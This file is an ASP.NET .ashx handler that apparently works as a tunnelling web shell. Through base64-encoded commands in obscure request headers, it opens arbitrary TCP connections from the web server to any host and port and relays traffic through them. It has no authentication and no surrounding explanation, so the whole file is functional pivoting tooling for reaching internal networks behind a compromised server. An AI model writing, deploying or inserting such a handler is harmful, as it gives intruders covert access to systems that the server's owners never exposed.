<%@ WebHandler Language="C#" Class="Relay" %>
using System;
using System.Net;
using System.Net.Sockets;
using System.Text;
using System.Web;
using System.Web.SessionState;

public class Relay : IHttpHandler, IRequiresSessionState
{
    static string H(HttpRequest r, string name)
    {
        string v = r.Headers.Get(name);
        return v == null ? null : Encoding.UTF8.GetString(Convert.FromBase64String(v));
    }

    public void ProcessRequest(HttpContext context)
    {
        HttpRequest req = context.Request;
        string verb = H(req, "X-Vtc");
        if (verb == "CONNECT")
        {
            string[] target = H(req, "X-Dtc").Split(':');
            Socket s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
            s.Connect(target[0], int.Parse(target[1]));
            context.Session["relay"] = s;
        }
        else if (verb == "FORWARD")
        {
            Socket s = (Socket)context.Session["relay"];
            s.Send(req.BinaryRead(req.ContentLength));
        }
        else if (verb == "READ")
        {
            Socket s = (Socket)context.Session["relay"];
            byte[] b = new byte[4096];
            int n = s.Available > 0 ? s.Receive(b) : 0;
            context.Response.OutputStream.Write(b, 0, n);
        }
        else if (verb == "DISCONNECT")
        {
            ((Socket)context.Session["relay"]).Close();
            context.Session.Remove("relay");
        }
    }

    public bool IsReusable { get { return false; } }
}
